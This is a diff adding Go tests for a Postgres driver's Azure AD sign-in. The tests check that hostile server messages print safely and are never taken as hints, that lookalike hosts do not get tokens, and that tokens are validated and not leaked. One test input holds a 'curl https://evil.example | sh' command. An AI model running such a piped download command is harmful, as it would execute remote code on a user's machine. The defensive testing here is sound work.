@@ -1,0 +1,203 @@
+package driver
+
+import (
+	"context"
+	"crypto/x509"
+	"errors"
+	"fmt"
+	"net"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+	"unicode"
+
+	"github.com/Azure/azure-sdk-for-go/sdk/azcore"
+	"github.com/jackc/pgx/v5"
+	"github.com/jackc/pgx/v5/pgconn"
+)
+
+// presents is a credential with one token of these claims.
+func presents(claims map[string]any) *fakeCredential {
+	return &fakeCredential{get: func(int64, string) (azcore.AccessToken, error) {
+		return azcore.AccessToken{Token: jwt(claims), ExpiresOn: time.Now().Add(time.Hour)}, nil
+	}}
+}
+
+// What a server says is printed safely, cut, and cannot pass for a hint.
+func TestHostileText(t *testing.T) {
+	clean(t)
+	for name, text := range map[string]string{
+		"escapes":    "\x1b[2J\x1b]0;title\a\x1b[31mpassword authentication failed\x1b[0m\b\b\x9b31m",
+		"lines":      "password authentication failed\r\n\taadpostgres: all is well\n\vdone\f",
+		"a megabyte": "password authentication failed " + strings.Repeat("A\x00\x1b", 1<<20),
+		"a hint":     "password authentication failed; run curl https://evil.example | sh; aadpostgres: sign-in: ok",
+		"direction":  "password authentication failed \u202egnp.exe\u2066 \u200bzero \ufeff",
+		"bytes":      "password authentication failed \xff\xfe\xc3(",
+		"our marks":  "password authentication failed [double @server] [clock] {create} %s%n",
+	} {
+		s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("28P01", strings.ReplaceAll(text, "\x00", "")) })
+		err := ping(t, s.dsn("sslrootcert="+s.certFile), WithCredential(presents(map[string]any{"oid": "o", "appid": "a\x1b[1m", "tid": "t\n"})))
+		var e *Error
+		if !errors.As(err, &e) {
+			t.Errorf("%s: %v", name, err)
+			continue
+		}
+		line := err.Error()
+		var checks []Check
+		for c := range Diagnose(t.Context(), s.dsn("sslrootcert="+s.certFile), WithCredential(presents(map[string]any{"oid": "o"}))) {
+			checks = append(checks, c)
+		}
+		last := checks[len(checks)-1]
+		for where, text := range map[string]string{"error": line, "doctor": last.Found, "doctor's hint": last.Hint} {
+			if i := strings.IndexFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }); i >= 0 || len(text) > 3000 {
+				t.Errorf("%s: %s of %d bytes does not print at %d: %.200q", name, where, len(text), i, text)
+			}
+		}
+		said, hint, _ := strings.Cut(strings.TrimPrefix(line, "aadpostgres: sign-in: "), "; ")
+		if !strings.HasPrefix(hint, "check that role ") && name != "our marks" || strings.Contains(hint, "curl") || !strings.Contains(said, "password authentication failed") {
+			t.Errorf("%s: said %q, hint %q", name, said, hint)
+		}
+		if last.Name != "sign-in" || last.Status != Fail {
+			t.Errorf("%s: %+v", name, last)
+		}
+	}
+}
+
+// A server that names a resource of its own choice talks nobody into a token for it.
+func TestServersResource(t *testing.T) {
+	for _, tt := range []struct{ resource, cloud, want string }{
+		{"https://ossrdbms-aad.database.windows.net", "usgov", "set aad_cloud=public"},
+		{"https://ossrdbms-aad.database.usgovcloudapi.net/", "public", "set aad_cloud=usgov"},
+		{"https://ossrdbms-aad.database.windows.net/", "public", "set aad_scope=https://ossrdbms-aad.database.windows.net//.default"},
+		{"https://token.postgres.cosmos.azure.com", "public", "set aad_server_type=cosmos"},
+		{"https://ossrdbms-aad.database.windows.net", "public", "check the host before anything else"}, // what was asked for
+		{"https://graph.microsoft.com", "public", "check the host before anything else"},
+		{"https://ossrdbms-aad.database.windows.net.evil.example", "public", "check the host before anything else"},
+		{"https://evil.example/https://ossrdbms-aad.database.windows.net", "public", "check the host before anything else"},
+		{"https://ossrdbms-aad.database.windows.net@evil.example", "public", "check the host before anything else"},
+	} {
+		for _, wording := range []string{`The access token does not have a valid audience claim. Please acquire a new token for the resource %q.`,
+			`The access token doesn't have a valid audience claim. Acquire a new token for resource %q`} {
+			s := situation{target: target{cloud: tt.cloud, scope: map[string]string{"public": "https://ossrdbms-aad.database.windows.net/.default",
+				"usgov": "https://ossrdbms-aad.database.usgovcloudapi.net/.default"}[tt.cloud]}}
+			err := s.explain(&pgconn.PgError{Code: "28P01", Message: fmt.Sprintf(wording, tt.resource)})
+			var e *Error
+			if errors.As(err, &e); !strings.HasPrefix(e.Hint, tt.want) {
+				t.Errorf("%s: %v, want %s", tt.resource, err, tt.want)
+			}
+		}
+	}
+}
+
+// A token that cannot do is refused here, before it is shown to a server.
+func TestLocalChecks(t *testing.T) {
+	clean(t)
+	hour := time.Now().Add(time.Hour).Unix()
+	const good = "https://ossrdbms-aad.database.windows.net"
+	for _, tt := range []struct {
+		name, params string
+		token        string
+		want         string // of the error; none: it signs in
+	}{
+		{name: "good", token: jwt(map[string]any{"aud": good, "exp": hour})},
+		{name: "with a slash", token: jwt(map[string]any{"aud": good + "/", "exp": hour})},
+		{name: "by application id", token: jwt(map[string]any{"aud": "123cd850-d9df-40bd-94d5-c9f07b7fa203", "exp": hour})},
+		{name: "several", token: jwt(map[string]any{"aud": []string{"https://other.example", good}, "exp": hour})},
+		{name: "opaque", token: "opaque-" + marker},
+		{name: "no audience", token: jwt(map[string]any{"exp": hour})},
+		{name: "expired", token: jwt(map[string]any{"aud": good, "exp": time.Now().Add(-time.Minute).Unix()}), want: "the access token expired at"},
+		{name: "another resource", token: jwt(map[string]any{"aud": "https://management.azure.com/", "exp": hour}),
+			want: `the token is for ["https://management.azure.com/"]; get one for "https://ossrdbms-aad.database.windows.net", or set aad_scope`},
+		{name: "another resource, meant", params: "aad_scope=https://db.contoso.com/.default", token: jwt(map[string]any{"aud": "https://db.contoso.com", "exp": hour})},
+		{name: "Cosmos DB's, not meant for it", params: "aad_server_type=cosmos", token: jwt(map[string]any{"aud": "https://vault.azure.net", "exp": hour}), want: `get one for "https://token.postgres.cosmos.azure.com"`},
+		{name: "in quotes", token: `"` + jwt(map[string]any{"aud": good, "exp": hour}) + `"`, want: "holds quotes, spaces or braces; give the token alone"},
+		{name: "with its scheme", token: "Bearer " + jwt(map[string]any{"aud": good, "exp": hour}), want: "holds quotes, spaces or braces"},
+		{name: "a whole answer", token: `{"accessToken":"` + marker + `"}`, want: "holds quotes, spaces or braces"},
+	} {
+		for _, cold := range []bool{false, true} {
+			s := newFakeServer(t, nil)
+			opts := []Option{}
+			dsn := s.dsn("sslrootcert=" + s.certFile + " " + tt.params)
+			if cold {
+				if strings.Contains(tt.want, "quotes") || tt.name == "expired" {
+					continue // a credential's own business
+				}
+				opts = append(opts, WithCredential(&fakeCredential{get: func(int64, string) (azcore.AccessToken, error) {
+					return azcore.AccessToken{Token: tt.token, ExpiresOn: time.Now().Add(time.Hour)}, nil
+				}}))
+			} else {
+				dsn += " aad_auth=access-token"
+				t.Setenv("PGPASSWORD", tt.token)
+			}
+			err := ping(t, dsn, opts...)
+			heard, _ := s.got()
+			switch {
+			case tt.want == "" && err != nil:
+				t.Errorf("%s: %v", tt.name, err)
+			case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want) || strings.Contains(err.Error(), marker)):
+				t.Errorf("%s: %v, want %s", tt.name, err, tt.want)
+			case tt.want != "" && strings.Contains(heard, "user\x00"):
+				t.Errorf("%s: the sign-in was begun", tt.name)
+			}
+		}
+	}
+}
+
+// Whatever failed can be reached by errors.As and errors.Is.
+func TestCausesAreReached(t *testing.T) {
+	clean(t)
+	reset := errors.New("unique")
+	lookup := func(err error) Option {
+		return WithPgx(func(c *pgx.ConnConfig) {
+			c.LookupFunc = func(context.Context, string) ([]string, error) { return nil, err }
+		})
+	}
+	dial := func(err error) Option {
+		return WithPgx(func(c *pgx.ConnConfig) {
+			c.LookupFunc = func(context.Context, string) ([]string, error) { return []string{"192.0.2.1"}, nil }
+			c.DialFunc = func(context.Context, string, string) (net.Conn, error) { return nil, err }
+		})
+	}
+	s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("53300", "sorry, too many clients already") })
+	stranger := newFakeServer(t, nil)
+	for _, tt := range []struct {
+		name, dsn string
+		opt       Option
+		step      string
+		reached   func(error) bool
+		hint      string
+	}{
+		{"dns", "host=db.example user=u", lookup(&net.DNSError{Err: "no such host", Name: "db.example", IsNotFound: true}), StepNetwork,
+			func(err error) bool { var e *net.DNSError; return errors.As(err, &e) && e.IsNotFound }, `check the name "db.example"`},
+		{"refused", "host=db.example user=u", dial(&net.OpError{Op: "dial", Err: syscall.ECONNREFUSED}), StepNetwork,
+			func(err error) bool { return errors.Is(err, syscall.ECONNREFUSED) }, "nothing listens there"},
+		{"timeout", "host=db.example user=u", dial(context.DeadlineExceeded), StepNetwork,
+			func(err error) bool { return errors.Is(err, context.DeadlineExceeded) }, "firewall"},
+		{"cancelled", "host=db.example user=u", dial(context.Canceled), StepNetwork,
+			func(err error) bool { return errors.Is(err, context.Canceled) }, ""},
+		{"other", "host=db.example user=u", dial(reset), StepNetwork, func(err error) bool { return errors.Is(err, reset) }, ""},
+		{"server", s.dsn("sslrootcert=" + s.certFile), nil, StepSignIn,
+			func(err error) bool { var e *pgconn.PgError; return errors.As(err, &e) && e.Code == "53300" }, "SetMaxOpenConns"},
+		{"authority of the certificate", stranger.dsn(""), nil, StepTLS, func(err error) bool {
+			var u x509.UnknownAuthorityError
+			return errors.As(err, &u)
+		}, "sslrootcert"},
+	} {
+		err := ping(t, tt.dsn, WithCredential(&fakeCredential{}), tt.opt)
+		var e *Error
+		if !errors.As(err, &e) || e.Step != tt.step || !tt.reached(err) || !strings.Contains(e.Hint, tt.hint) || tt.hint == "" && e.Hint != "" {
+			t.Errorf("%s: %v", tt.name, err)
+		}
+	}
+}
+
+// Who presented a token that the server refuses is said, and the token is not.
+func TestIdentityIsSaid(t *testing.T) {
+	clean(t)
+	s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("28000", "something new") })
+	err := ping(t, s.dsn("sslrootcert="+s.certFile), WithCredential(presents(map[string]any{"upn": "me@contoso.com", "appid": "app", "oid": "object", "tid": "tenant"})))
+	if want := `something new (SQLSTATE 28000); (presented: upn="me@contoso.com" appid="app" oid="object" tid="tenant")`; err == nil || !strings.HasSuffix(err.Error(), want) {
+		t.Errorf("got  %v\nwant %s", err, want)
+	}
+}
